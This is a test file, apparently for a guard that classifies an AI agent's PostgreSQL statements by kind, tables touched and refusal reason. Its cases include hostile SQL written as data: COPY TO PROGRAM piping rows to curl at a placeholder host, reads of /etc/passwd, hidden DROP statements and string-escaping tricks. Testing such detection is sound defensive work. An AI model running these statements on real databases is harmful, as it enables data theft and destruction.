// The classification table: real parse trees from libpg-query (PostgreSQL 18's parser), never
// hand-made ones. Breaking the tree reading in sql-tree.ts (say, dropping CTE scoping, or the
// WHERE check) fails the rows that depend on it.
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { SqlStatement } from '@chaperone/shared';
import fc from 'fast-check';
import { executeOf, loadSqlParser, SqlClassifier } from './sql-classifier.ts';
import { deeperThan, MAX_TREE_DEPTH } from './sql-reading.ts';

let classifier: SqlClassifier;
before(async () => {
  classifier = await SqlClassifier.create(64);
});

type Expect = Partial<Omit<SqlStatement, 'kinds' | 'problem'>> & {
  kinds?: string[];
  /** Kinds it must have among others. */
  hasKinds?: string[];
  notKinds?: string[];
  problem?: RegExp | string;
};

/** [case, SQL, one expectation per statement (only the members given are checked)] */
const TABLE: [string, string, Expect[]][] = [
  [
    'plain select',
    'SELECT id, email FROM orders WHERE id = 1',
    [{ kind: 'SelectStmt', kinds: ['select'], tables: ['orders'], columns: ['email', 'id'] }],
  ],
  [
    'schema-qualified, joined, subquery',
    'SELECT o.id FROM app.orders o JOIN customers c ON c.id = o.cid WHERE o.id IN (SELECT order_id FROM audit.refunds)',
    [{ tables: ['app.orders', 'audit.refunds', 'customers'], kinds: ['select'] }],
  ],
  [
    'the reference bypass: every statement of a multi-statement string',
    'SELECT 1; COMMIT; DROP SCHEMA public CASCADE',
    [
      { kind: 'SelectStmt', kinds: ['select'] },
      { kind: 'TransactionStmt', kinds: ['transaction'] },
      { kind: 'DropStmt', kinds: ['ddl', 'drop', 'write'], schemas: ['public'], tables: [] },
    ],
  ],
  [
    'drop several tables',
    'DROP TABLE a, s.b CASCADE',
    [{ kind: 'DropStmt', tables: ['a', 's.b'], writes: ['a', 's.b'] }],
  ],
  [
    'a comment hides nothing',
    'SELECT 1 /* harmless */; DROP /* really */ TABLE orders -- bye',
    [{ kind: 'SelectStmt' }, { kind: 'DropStmt', tables: ['orders'] }],
  ],
  [
    'a statement inside a string is a string',
    "SELECT 'x; DROP TABLE orders; --'",
    [{ kind: 'SelectStmt', tables: [], kinds: ['select'] }],
  ],
  ['dollar quoting too', 'SELECT $q$; DROP TABLE orders; $q$', [{ kind: 'SelectStmt', tables: [] }]],
  // With standard_conforming_strings on (which the sidecar enforces), a backslash does not escape a
  // quote; with it off (turned off unseen) it does, and the server would find other statements. So a
  // plain string where a backslash meets a quote is unreadable (sql-reading.ts backslashProblem).
  [
    'backslash before a quote: the string ends elsewhere with standard_conforming_strings off',
    "SELECT 'a\\'; DROP TABLE t; --'",
    [
      { kind: 'SelectStmt', problem: /backslash before a quote/ },
      { kind: 'DropStmt', tables: ['t'] },
    ],
  ],
  [
    'quoted identifiers keep case and dots',
    'DELETE FROM "Orders" WHERE id = 1; TRUNCATE "a.b"',
    [
      { tables: ['Orders'], kinds: ['delete', 'write'], notKinds: ['delete-without-where'] },
      { tables: ['"a.b"'], kinds: ['ddl', 'truncate', 'write'] },
    ],
  ],
  [
    'delete without where',
    'DELETE FROM orders',
    [{ kinds: ['delete', 'delete-without-where', 'write'], unqualified: true, writes: ['orders'] }],
  ],
  [
    'update without where',
    'UPDATE orders SET total = 0',
    [{ kinds: ['update', 'update-without-where', 'write'], unqualified: true, columns: ['total'] }],
  ],
  [
    'update with where current of',
    'UPDATE orders SET total = 0 WHERE CURRENT OF c',
    [{ notKinds: ['update-without-where'] }],
  ],
  [
    'a CTE that deletes, read back by a SELECT',
    'WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone',
    [
      {
        kind: 'SelectStmt',
        kinds: ['delete', 'delete-without-where', 'select', 'write'],
        tables: ['orders'],
        writes: ['orders'],
      },
    ],
  ],
  [
    'a CTE name is not a table, but a later CTE cannot see an earlier one as itself',
    'WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a, secrets',
    [{ tables: ['secrets'] }],
  ],
  ['a CTE shadowing a table name', 'WITH orders AS (SELECT 1 AS id) SELECT id FROM orders', [{ tables: [] }]],
  [
    'recursive CTE sees itself',
    'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r',
    [{ tables: [] }],
  ],
  [
    'insert … select reads and writes: a rule on reading sees it',
    'INSERT INTO archive (id) SELECT id FROM orders',
    [
      {
        kinds: ['insert', 'select', 'write'],
        tables: ['archive', 'orders'],
        writes: ['archive'],
        columns: ['id'],
      },
    ],
  ],
  [
    'insert without a column list writes every column; VALUES reads nothing',
    'INSERT INTO t VALUES (1)',
    [{ columns: ['*'], kinds: ['insert', 'write'] }],
  ],
  [
    'a subquery that reads counts as select',
    'UPDATE t SET n = (SELECT max(n) FROM secrets) WHERE id = 1',
    [{ kinds: ['select', 'update', 'write'], tables: ['secrets', 't'] }],
  ],
  [
    'a syntax error later in the string: its position, never its text',
    "SELECT 1; SELECT 'x' 'hunter2'",
    [{ kind: 'unknown', problem: /^the parser refused it: syntax error at character \d+$/ }],
  ],
  [
    'upsert is an update too',
    'INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 2',
    [{ kinds: ['insert', 'update', 'write'] }],
  ],
  [
    'merge',
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)',
    [{ kinds: ['delete', 'insert', 'merge', 'write'], tables: ['s', 't'], writes: ['t'] }],
  ],
  [
    'select into creates a table',
    'SELECT * INTO copy_of_users FROM users',
    [{ kinds: ['create', 'ddl', 'select', 'write'], writes: ['copy_of_users'] }],
  ],
  [
    'whole-row reference reaches every column',
    'SELECT row_to_json(u) FROM users u',
    [{ columns: ['*'], functions: ['row_to_json'] }],
  ],
  ['t.* too', 'SELECT u.* FROM users u', [{ columns: ['*'] }]],
  [
    'functions',
    "SELECT pg_read_file('/etc/passwd'), pg_catalog.set_config('role', 'admin', false), lo_import('/x')",
    [{ functions: ['lo_import', 'pg_catalog.set_config', 'pg_read_file'] }],
  ],
  [
    'functions in FROM and WHERE',
    "SELECT * FROM dblink('host=x', 'select 1') AS t(a int) WHERE pg_terminate_backend(42)",
    [{ functions: ['dblink', 'pg_terminate_backend'] }],
  ],
  [
    'COPY TO PROGRAM',
    "COPY orders TO PROGRAM 'curl -d @- http://x'",
    [{ kinds: ['copy', 'copy-program', 'copy-to', 'copy-to-program'], tables: ['orders'], columns: ['*'] }],
  ],
  [
    'COPY FROM PROGRAM',
    "COPY t FROM PROGRAM 'id'",
    [{ kinds: ['copy', 'copy-from', 'copy-from-program', 'copy-program', 'write'], writes: ['t'] }],
  ],
  [
    'COPY TO STDOUT of some columns',
    'COPY orders (id, total) TO STDOUT',
    [{ kinds: ['copy', 'copy-to'], columns: ['id', 'total'] }],
  ],
  [
    'COPY FROM a server file',
    "COPY t FROM '/etc/passwd'",
    [{ kinds: ['copy', 'copy-file', 'copy-from', 'write'] }],
  ],
  [
    'COPY of a query',
    'COPY (SELECT ssn FROM users) TO STDOUT',
    [{ tables: ['users'], columns: ['ssn'], kinds: ['copy', 'copy-to', 'select'] }],
  ],
  ['SET ROLE', 'SET ROLE admin', [{ kinds: ['set', 'set-role'] }]],
  ['SET LOCAL ROLE', 'SET LOCAL ROLE admin', [{ kinds: ['set', 'set-role'] }]],
  [
    'SET SESSION AUTHORIZATION',
    'SET SESSION AUTHORIZATION postgres',
    [{ kinds: ['set', 'set-session-authorization'] }],
  ],
  [
    'ALTER SYSTEM',
    "ALTER SYSTEM SET archive_command = 'x'",
    [{ kind: 'AlterSystemStmt', kinds: ['alter', 'alter-system', 'ddl', 'write'] }],
  ],
  [
    'GRANT on every table of a schema',
    'GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob',
    [{ kinds: ['grant', 'write'], schemas: ['public'] }],
  ],
  ['REVOKE', 'REVOKE ALL ON orders FROM bob', [{ kinds: ['grant', 'revoke', 'write'], tables: ['orders'] }]],
  [
    'CREATE FUNCTION … SECURITY DEFINER, and its SQL body counts',
    "CREATE FUNCTION f() RETURNS void SECURITY DEFINER LANGUAGE sql AS 'DELETE FROM orders'",
    [
      {
        kinds: [
          'create',
          'create-function',
          'create-function-security-definer',
          'ddl',
          'delete',
          'delete-without-where',
          'write',
        ],
        tables: ['orders'],
      },
    ],
  ],
  [
    'a function in a language the guard cannot read',
    "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'",
    [{ kinds: ['create', 'create-function', 'ddl', 'dynamic-sql', 'write'] }],
  ],
  [
    'a DO block: its statements count',
    'DO $$ BEGIN DROP TABLE orders; END $$',
    [
      {
        kind: 'DoStmt',
        kinds: ['ddl', 'do', 'drop', 'write'],
        tables: ['orders'],
        notKinds: ['dynamic-sql'],
      },
    ],
  ],
  [
    'a DO block with EXECUTE is dynamic SQL',
    "DO $$ BEGIN EXECUTE 'DROP ' || 'TABLE orders'; END $$",
    [{ kind: 'DoStmt', kinds: ['do', 'dynamic-sql'] }],
  ],
  [
    'a PL/pgSQL function with EXECUTE',
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE format('TRUNCATE %I', 'x'); END $f$",
    [{ kinds: ['create', 'create-function', 'ddl', 'dynamic-sql', 'write'], functions: ['format'] }],
  ],
  [
    'a DO block in another language',
    "DO LANGUAGE plperlu $$ system('id') $$",
    [{ kinds: ['do', 'dynamic-sql'] }],
  ],
  [
    'a DO block the PL/pgSQL parser refuses',
    'DO $$ BEGIN nonsense here; END $$',
    [{ problem: /DO block could not be read/ }],
  ],
  // Server-side code may not change the session's prepared statements: the guard judges EXECUTE and
  // Bind by what it saw prepared, and a body run later could swap what a name holds.
  [
    'a DO block that prepares a statement',
    'DO $$ BEGIN PREPARE q AS DELETE FROM t; END $$',
    [{ kind: 'DoStmt', problem: /DO block prepares, runs or drops a prepared statement/ }],
  ],
  [
    'a SQL function that drops a prepared statement',
    'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $f$ DEALLOCATE q; SELECT 1 $f$',
    [{ problem: /function body prepares, runs or drops a prepared statement/ }],
  ],
  [
    'a SQL function that runs a prepared statement',
    "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'CREATE TABLE c AS EXECUTE q'",
    [{ problem: /function body prepares, runs or drops a prepared statement/ }],
  ],
  [
    'a PL/pgSQL function that discards everything',
    'CREATE PROCEDURE p() LANGUAGE plpgsql AS $f$ BEGIN DISCARD ALL; END $f$',
    [{ problem: /function body prepares, runs or drops a prepared statement/ }],
  ],
  [
    'a SQL function that closes and declares a cursor',
    'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $f$ CLOSE p; DECLARE p CURSOR FOR SELECT 1; SELECT 1 $f$',
    [{ problem: /function body declares or closes a cursor by name/ }],
  ],
  [
    'a PL/pgSQL function that closes a cursor (a bound cursor variable is named after itself)',
    'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$ DECLARE p CURSOR FOR SELECT 1; BEGIN CLOSE p; OPEN p; END $f$',
    [{ problem: /function body declares or closes a cursor by name/ }],
  ],
  [
    'a PL/pgSQL function that opens a cursor and lets the transaction close it',
    'CREATE FUNCTION f() RETURNS refcursor LANGUAGE plpgsql AS $f$ DECLARE c refcursor; BEGIN OPEN c FOR SELECT 1; RETURN c; END $f$',
    [{ kinds: ['create', 'create-function', 'ddl', 'select', 'write'] }],
  ],
  [
    'PREPARE counts as what it prepares',
    'PREPARE p (int) AS DELETE FROM t WHERE id = $1',
    [{ kinds: ['delete', 'prepare', 'write'], tables: ['t'] }],
  ],
  [
    'EXPLAIN ANALYZE runs what it explains',
    'EXPLAIN ANALYZE DELETE FROM t',
    [{ kinds: ['delete', 'delete-without-where', 'explain', 'write'] }],
  ],
  [
    'CREATE TABLE AS',
    'CREATE TABLE x AS SELECT * FROM t',
    [{ kinds: ['create', 'ddl', 'select', 'write'], writes: ['x'], tables: ['t', 'x'] }],
  ],
  ['SET client_encoding is refused', "SET NAMES 'SJIS'", [{ problem: /client_encoding can only be UTF8/ }]],
  [
    'SET standard_conforming_strings off is refused',
    'SET standard_conforming_strings = off',
    [{ problem: /standard_conforming_strings stays on/ }],
  ],
  [
    'a syntax error',
    'SELEC * FROM orders',
    [{ kind: 'unknown', problem: /^the parser refused it: syntax error$/ }],
  ],
  // --- How the server reads text (sql-reading.ts). Each row fails if its check is taken out.
  [
    'the review pipeline: pg_settings turns standard_conforming_strings off, the next string hides a DROP',
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'; SELECT 'a\\''; DROP TABLE victim; SELECT ' FROM orders --'",
    [{ problem: /writes and names pg_settings/ }, { problem: /backslash before a quote/ }],
  ],
  [
    'any write to pg_settings',
    'INSERT INTO pg_catalog.pg_settings (name) VALUES ($1)',
    [{ problem: /pg_settings/ }],
  ],
  [
    'a view over pg_settings is written through (its rules call set_config)',
    'CREATE VIEW ps AS SELECT * FROM pg_settings',
    [{ problem: /pg_settings/ }],
  ],
  [
    'reading pg_settings is fine',
    "SELECT setting FROM pg_settings WHERE name = 'work_mem'",
    [{ tables: ['pg_settings'] }],
  ],
  [
    'set_config of standard_conforming_strings (the strict-policy pipeline of the review)',
    "SELECT set_config('standard_conforming_strings', 'off', false) FROM orders LIMIT 1",
    [{ problem: /set_config\('standard_conforming_strings'/ }],
  ],
  [
    'set_config of client_encoding, any case, qualified',
    "SELECT pg_catalog.set_config('Client_Encoding', 'SJIS', false)",
    [{ problem: /set_config\('client_encoding'/ }],
  ],
  [
    'set_config of backslash_quote',
    "SELECT set_config('backslash_quote', 'on', true)",
    [{ problem: /backslash_quote/ }],
  ],
  [
    'set_config of a setting named by an expression',
    "SELECT set_config(name, 'off', false) FROM pg_settings",
    [{ problem: /setting name the guard cannot read/ }],
  ],
  [
    'set_config of a name with a backslash (another name to a server reading escapes)',
    "SELECT set_config('standard\\_conforming_strings', 'off', false)",
    [{ problem: /setting name the guard cannot read/ }],
  ],
  [
    'set_config of another setting is a function call like any',
    "SELECT set_config('search_path', 'app', false)",
    [{ functions: ['set_config'] }],
  ],
  [
    'backslashes that do not meet a quote read the same either way',
    "SELECT 'C:\\\\temp', 'x' ~ '^\\d+$', 'a' LIKE 'a\\_%', '{\"a\":\"x\\\"y\"}', E'it\\'s', $q$\\'$q$",
    [{ kind: 'SelectStmt', kinds: ['select'] }],
  ],
  [
    'an even run of backslashes before a quote ends the string in both readings',
    "SELECT 'a\\\\\\\\'",
    [{ kind: 'SelectStmt' }],
  ],
  [
    'any backslash in a plain string a DO block is written in',
    "DO 'BEGIN PERFORM ''\\x41''; END'",
    [{ problem: /reads as code or settings|guard reads as code/ }],
  ],
  [
    'any backslash in a plain string a SET value is written in',
    "SET search_path = 'a\\b'",
    [{ problem: /guard reads as code or settings/ }],
  ],
  [
    'a function body (dollar-quoted) with a backslash before a quote inside',
    // One PERFORM to the guard; PERFORM, DROP TABLE victim, PERFORM to a server reading escapes.
    "CREATE FUNCTION tidy() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN PERFORM 'a\\' || ' ; DROP TABLE victim; PERFORM ' || 'b'; END $f$",
    [{ problem: /backslash before a quote/ }],
  ],
  [
    'a function SET clause turning standard_conforming_strings off (review #2)',
    "CREATE FUNCTION tidy() RETURNS void LANGUAGE sql SET standard_conforming_strings = off AS $f$ SELECT 'a'; DROP TABLE victim; SELECT ' -- ' $f$",
    [{ problem: /standard_conforming_strings stays on/ }],
  ],
  [
    'ALTER FUNCTION … SET client_encoding',
    "ALTER FUNCTION tidy() SET client_encoding = 'SJIS'",
    [{ problem: /client_encoding can only be UTF8/ }],
  ],
  [
    'a function SET clause of another setting is fine',
    'ALTER FUNCTION tidy() SET search_path = app, public',
    [{ kind: 'AlterFunctionStmt', kinds: ['alter', 'ddl', 'write'] }],
  ],
  [
    'ALTER ROLE / DATABASE / SYSTEM … SET read as SET is',
    "ALTER ROLE agent SET standard_conforming_strings = off; ALTER DATABASE app SET client_encoding = 'BIG5'; ALTER SYSTEM SET backslash_quote = on; ALTER ROLE agent SET role = admin",
    [
      { problem: /standard_conforming_strings/ },
      { problem: /client_encoding/ },
      { problem: /backslash_quote/ },
      { kinds: ['alter', 'ddl', 'set', 'set-role', 'write'] },
    ],
  ],
  // --- Credentials (review #3): kind `credential`, denied by the built-in rule (sql-match.ts).
  [
    'an agent setting its own password',
    "ALTER ROLE CURRENT_USER PASSWORD 'x'",
    [{ kinds: ['alter', 'credential', 'ddl', 'write'] }],
  ],
  [
    'LOGIN, VALID UNTIL, CREATE USER (which logs in)',
    "CREATE ROLE r LOGIN; ALTER USER bob VALID UNTIL 'infinity'; CREATE USER u",
    [{ hasKinds: ['credential'] }, { hasKinds: ['credential'] }, { hasKinds: ['credential'] }],
  ],
  [
    'roles without a credential',
    'CREATE ROLE readers; ALTER ROLE r NOLOGIN; CREATE USER u2 NOLOGIN',
    [{ notKinds: ['credential'] }, { notKinds: ['credential'] }, { notKinds: ['credential'] }],
  ],
  [
    'user mappings with a password',
    "CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'a', password 'b'); ALTER USER MAPPING FOR u SERVER s OPTIONS (SET password 'c')",
    [{ hasKinds: ['credential'] }, { hasKinds: ['credential'] }],
  ],
  [
    'a user mapping without one',
    "CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'a')",
    [{ notKinds: ['credential'] }],
  ],
  // --- Functions that run SQL text; statistics that hold every table's values (review #6).
  [
    'query_to_xml runs its query: dynamic SQL',
    "SELECT query_to_xml('select value from secrets', true, false, '') FROM orders LIMIT 1",
    [{ kinds: ['dynamic-sql', 'select'], tables: ['orders'] }],
  ],
  [
    'table_to_xml, ts_stat, ts_rewrite with a query, dblink_exec, crosstab, cron.schedule',
    "SELECT table_to_xml('secrets', true, false, ''); SELECT * FROM ts_stat('select v from t'); SELECT ts_rewrite('a'::tsquery, 'select 1'); SELECT dblink_exec('x'); SELECT * FROM crosstab('select 1') AS t(a int); SELECT cron.schedule('* * * * *', 'DELETE FROM t')",
    Array.from({ length: 6 }, (): Expect => ({ hasKinds: ['dynamic-sql'] })),
  ],
  [
    'ts_rewrite of three queries, and a function called schedule in another schema, run no SQL text',
    "SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery); SELECT app.schedule(1)",
    [{ notKinds: ['dynamic-sql'] }, { notKinds: ['dynamic-sql'], functions: ['app.schedule'] }],
  ],
  [
    'pg_stats reaches every table (schemas: *)',
    "SELECT histogram_bounds FROM pg_stats WHERE tablename = 'secrets'; SELECT * FROM pg_catalog.pg_statistic_ext_data",
    [
      { tables: ['pg_stats'], schemas: ['*'] },
      { tables: ['pg_catalog.pg_statistic_ext_data'], schemas: ['*'] },
    ],
  ],
  // --- Three-part names (review #7): the database part is dropped.
  [
    'database.schema.table and database.schema.function',
    'SELECT app.public.f(1) FROM app.public.secrets; DROP TABLE app.public.secrets',
    [
      { tables: ['public.secrets'], functions: ['public.f'] },
      { tables: ['public.secrets'], writes: ['public.secrets'] },
    ],
  ],
  // --- PL/pgSQL assignment targets (review #8).
  [
    'a subscript of an assignment target runs its query',
    'DO $$ DECLARE arr int[]; BEGIN arr[(SELECT ascii(value) FROM secrets LIMIT 1)] := 1; END $$',
    [{ kinds: ['do', 'select'], tables: ['secrets'], functions: ['ascii'] }],
  ],
  [
    'in a function too, with = and a comparison inside the subscript',
    "CREATE FUNCTION f2() RETURNS void LANGUAGE plpgsql AS $f$ DECLARE arr int[]; BEGIN arr[(SELECT count(*) FROM secrets WHERE value = 'x')::int] = 1; END $f$",
    [{ tables: ['secrets'], kinds: ['create', 'create-function', 'ddl', 'select', 'write'] }],
  ],
  [
    'plain targets and values',
    'DO $$ DECLARE x int; r record; BEGIN x := (SELECT count(*) FROM orders); r.a = 1; END $$',
    [{ kinds: ['do', 'select'], tables: ['orders'] }],
  ],
  // --- Functions named in DDL are functions called (review #9).
  [
    'CREATE OPERATOR … FUNCTION',
    'CREATE OPERATOR !!! (LEFTARG = int, RIGHTARG = bigint, FUNCTION = pg_terminate_backend)',
    [{ kind: 'DefineStmt', functions: ['pg_terminate_backend'] }],
  ],
  [
    'an aggregate whose SFUNC is set_config would call it with any setting name',
    "CREATE AGGREGATE scs_agg(text, boolean) (SFUNC = set_config, STYPE = text, INITCOND = 'standard_conforming_strings')",
    [{ problem: /set_config\(\) named where the guard cannot see its arguments/ }],
  ],
  [
    'casts, transforms, event triggers, types, operator classes, languages',
    'CREATE CAST (int AS text) WITH FUNCTION app.public.f(int); CREATE TRANSFORM FOR int LANGUAGE plpgsql (FROM SQL WITH FUNCTION a(internal), TO SQL WITH FUNCTION b(internal)); CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION g(); CREATE TYPE box2 (INPUT = my_in, OUTPUT = s.my_out); CREATE OPERATOR CLASS oc FOR TYPE int USING btree AS OPERATOR 1 <, FUNCTION 1 cmpf(int, int); CREATE LANGUAGE l HANDLER h',
    [
      { functions: ['public.f'] },
      { functions: ['a', 'b'] },
      { functions: ['g'] },
      { functions: ['my_in', 's.my_out'] },
      { functions: ['cmpf'] },
      { functions: ['h'] },
    ],
  ],
  // --- Whole-table deletes and updates, and what is tied to a table (review LOW items).
  [
    'WHERE that is always true is no WHERE (best effort)',
    "DELETE FROM orders WHERE true; DELETE FROM orders WHERE 1 = 1 OR id = 2; UPDATE orders SET n = 0 WHERE 't'; DELETE FROM orders WHERE NOT false AND id = id",
    [
      { kinds: ['delete', 'delete-without-where', 'write'], unqualified: true },
      { kinds: ['delete', 'delete-without-where', 'write'] },
      { kinds: ['update', 'update-without-where', 'write'] },
      { kinds: ['delete', 'delete-without-where', 'write'] },
    ],
  ],
  [
    'a WHERE that depends on the rows is a WHERE',
    "DELETE FROM orders WHERE id > 0; UPDATE orders SET n = 0 WHERE 1 = 2 OR id = 3; DELETE FROM orders WHERE 'a' < 'b'",
    [
      { notKinds: ['delete-without-where'] },
      { notKinds: ['update-without-where'] },
      { notKinds: ['delete-without-where'] },
    ],
  ],
  [
    'MERGE … ON true WHEN MATCHED THEN DELETE, and ON false WHEN NOT MATCHED BY SOURCE THEN DELETE',
    'MERGE INTO orders o USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE; MERGE INTO orders o USING s ON false WHEN NOT MATCHED BY SOURCE THEN DELETE; MERGE INTO orders o USING s ON o.id = s.id WHEN MATCHED AND true THEN UPDATE SET n = 1',
    [
      { kinds: ['delete', 'delete-without-where', 'merge', 'write'] },
      { kinds: ['delete', 'delete-without-where', 'merge', 'write'] },
      { kinds: ['merge', 'update', 'write'] },
    ],
  ],
  [
    'ALTER TABLE … DROP COLUMN is a drop',
    'ALTER TABLE s.t DROP COLUMN c; ALTER TABLE s.t ADD COLUMN d int',
    [
      { kinds: ['alter', 'ddl', 'drop', 'write'], columns: ['c'], writes: ['s.t'] },
      { kinds: ['alter', 'ddl', 'write'] },
    ],
  ],
  [
    'COMMENT ON and SECURITY LABEL of a table, its column, its policy',
    "COMMENT ON TABLE secrets IS 'x'; COMMENT ON COLUMN public.secrets.value IS 'y'; COMMENT ON POLICY p ON secrets IS 'z'; SECURITY LABEL ON TABLE app.public.secrets IS 'w'",
    [
      { tables: ['secrets'], writes: ['secrets'], kinds: ['comment', 'ddl', 'write'] },
      { tables: ['public.secrets'], columns: ['value'] },
      { tables: ['secrets'] },
      { tables: ['public.secrets'] },
    ],
  ],
  [
    'DROP POLICY / TRIGGER / RULE … ON t changes t',
    'DROP POLICY p ON public.secrets; DROP TRIGGER tr ON secrets; DROP RULE r ON app.public.secrets',
    [
      { tables: ['public.secrets'], writes: ['public.secrets'] },
      { tables: ['secrets'] },
      { tables: ['public.secrets'] },
    ],
  ],
  // --- PL/pgSQL bodies read as the server compiles them (with the function's own signature).
  [
    'a PL/pgSQL function that returns a value',
    'CREATE OR REPLACE FUNCTION two() RETURNS int LANGUAGE plpgsql AS $f$ BEGIN RETURN (SELECT count(*) FROM orders); END $f$',
    [{ kinds: ['create', 'create-function', 'ddl', 'select', 'write'], tables: ['orders'] }],
  ],
  [
    'OUT parameters, RETURNS TABLE, RETURNS SETOF, a procedure',
    'CREATE FUNCTION f(n int, OUT r int) LANGUAGE plpgsql AS $f$ BEGIN r := n; END $f$; CREATE FUNCTION g() RETURNS TABLE (a int) LANGUAGE plpgsql AS $f$ BEGIN RETURN QUERY SELECT id FROM orders; END $f$; CREATE FUNCTION h() RETURNS SETOF int LANGUAGE plpgsql AS $f$ BEGIN RETURN NEXT 1; END $f$; CREATE PROCEDURE p() LANGUAGE plpgsql AS $f$ BEGIN RETURN; END $f$',
    [{}, { tables: ['orders'] }, {}, {}],
  ],
  [
    'a body the server would refuse is still unreadable: RETURN 1 in a function returning void',
    'CREATE FUNCTION v() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN RETURN 1; END $f$',
    [{ problem: /RETURN cannot have a parameter in function returning void/ }],
  ],
  ['nothing but a comment', '-- nothing', []],
];

function check(sql: string, want: Expect[]): void {
  const got = classifier.classify(sql).statements.map((s) => s.statement);
  assert.equal(got.length, want.length, `statements of ${sql}: ${JSON.stringify(got)}`);
  want.forEach((w, i) => {
    const g = got[i] as SqlStatement;
    const where = `${sql} [${i}]: ${JSON.stringify(g)}`;
    for (const [k, v] of Object.entries(w)) {
      if (k === 'notKinds') {
        for (const n of v as string[]) assert.ok(!g.kinds?.includes(n), `${where}: not ${n}`);
      } else if (k === 'hasKinds') {
        for (const n of v as string[]) assert.ok(g.kinds?.includes(n), `${where}: ${n}`);
      } else if (k === 'problem') {
        assert.match(g.problem ?? '', v as RegExp, where);
      } else if (
        k === 'kinds' ||
        k === 'tables' ||
        k === 'columns' ||
        k === 'functions' ||
        k === 'writes' ||
        k === 'schemas'
      ) {
        assert.deepEqual(
          [...((g as unknown as Record<string, string[]>)[k] ?? [])].sort(),
          [...(v as string[])].sort(),
          `${where}: ${k}`,
        );
      } else {
        assert.deepEqual((g as unknown as Record<string, unknown>)[k], v, `${where}: ${k}`);
      }
    }
    if (!('problem' in w)) assert.equal(g.problem, undefined, `${where}: no problem`);
  });
}

describe('SQL classification (real parse trees)', () => {
  for (const [name, sql, want] of TABLE) it(name, () => check(sql, want));
});

describe('normalised text and fingerprint', () => {
  it('keeps no literal and no comment, whatever normalize left', () => {
    const cases = [
      "SELECT * FROM users WHERE password = 'hunter2' AND pin = 1234",
      "COPY t TO PROGRAM 'curl -d hunter2 http://x'",
      "PREPARE p AS SELECT 'hunter2'",
      "COMMENT ON TABLE t IS 'hunter2'",
      "ALTER ROLE bob PASSWORD 'hunter2'",
      "DO $$ BEGIN PERFORM 'hunter2'; END $$",
      'SELECT 1 -- hunter2\n',
      'SELECT /* hunter2 */ 2',
      "SELECT E'hunter2', B'1010', X'ff', U&'hunter2', $tag$hunter2$tag$, 12.5e3",
      "CREATE TABLE t (a text DEFAULT 'hunter2')",
      "SELEC 'hunter2' FROM", // unparseable: still redacted, from the tokens
    ];
    for (const sql of cases) {
      const [s] = classifier.classify(sql).statements;
      assert.ok(s, sql);
      assert.doesNotMatch(s.text, /hunter2|1234|1010|12\.5/, `${sql} → ${s.text}`);
      assert.doesNotMatch(s.statement.problem ?? '', /hunter2/);
    }
    const [s] = classifier.classify("SELECT * FROM users WHERE password = 'x' AND pin = 1").statements;
    assert.equal(s?.text, 'SELECT * FROM users WHERE password = $1 AND pin = $2');
  });

  it('gives one fingerprint to statements that differ only in literals, per statement of a string', () => {
    const a = classifier.classify("SELECT * FROM t WHERE id = 1; DELETE FROM t WHERE id = 'x'").statements;
    const b = classifier.classify('SELECT * FROM t WHERE id = 99').statements;
    assert.equal(a.length, 2);
    assert.match(a[0]?.fingerprint ?? '', /^[0-9a-f]{16}$/);
    assert.equal(a[0]?.fingerprint, b[0]?.fingerprint);
    assert.notEqual(a[0]?.fingerprint, a[1]?.fingerprint);
    assert.equal(a[1]?.text, 'DELETE FROM t WHERE id = $1');
  });

  // The fingerprint is taken from the redacted text and cached by it; where $n cannot stand in for a
  // literal (a DO body), the redacted text does not parse and the statement's own text is used.
  it('fingerprints what a redacted text cannot carry from the statement itself', () => {
    const [a] = classifier.classify('DO $$ BEGIN PERFORM 1; END $$').statements;
    const [b] = classifier.classify('DO $$ BEGIN PERFORM 2 + 2; END $$').statements;
    assert.match(a?.fingerprint ?? '', /^[0-9a-f]{16}$/);
    assert.match(b?.fingerprint ?? '', /^[0-9a-f]{16}$/);
    assert.equal(a?.text, b?.text, 'both redacted alike');
    const [p] = classifier.classify('SELECT * FROM t WHERE id = $1').statements;
    const [l] = classifier.classify('SELECT * FROM t WHERE id = 42').statements;
    assert.equal(p?.fingerprint, l?.fingerprint, 'a literal and a parameter in its place share one');
  });

  it('slices statements by bytes, not characters', () => {
    const s = classifier.classify("SELECT 'é'; DROP TABLE t").statements;
    assert.deepEqual(
      s.map((x) => x.text),
      ['SELECT $1', 'DROP TABLE t'],
    );
  });
});

describe('PREPARE and EXECUTE', () => {
  it('EXECUTE is judged by what was prepared', () => {
    const [prep] = classifier.classify('PREPARE p AS DELETE FROM orders').statements;
    assert.equal(prep?.prepares?.name, 'p');
    assert.deepEqual(prep?.prepares?.statement.kinds, ['delete', 'delete-without-where', 'write']);
    const [exec] = classifier.classify('EXECUTE p').statements;
    assert.equal(exec?.executes, 'p');
    const judged = executeOf(exec?.statement as SqlStatement, prep?.prepares?.statement, 'p');
    assert.equal(judged.kind, 'ExecuteStmt');
    assert.deepEqual(judged.kinds, ['delete', 'delete-without-where', 'execute', 'write']);
    assert.deepEqual(judged.tables, ['orders']);
    assert.match(
      executeOf(exec?.statement as SqlStatement, undefined, 'p').problem ?? '',
      /no statement named "p"/,
    );
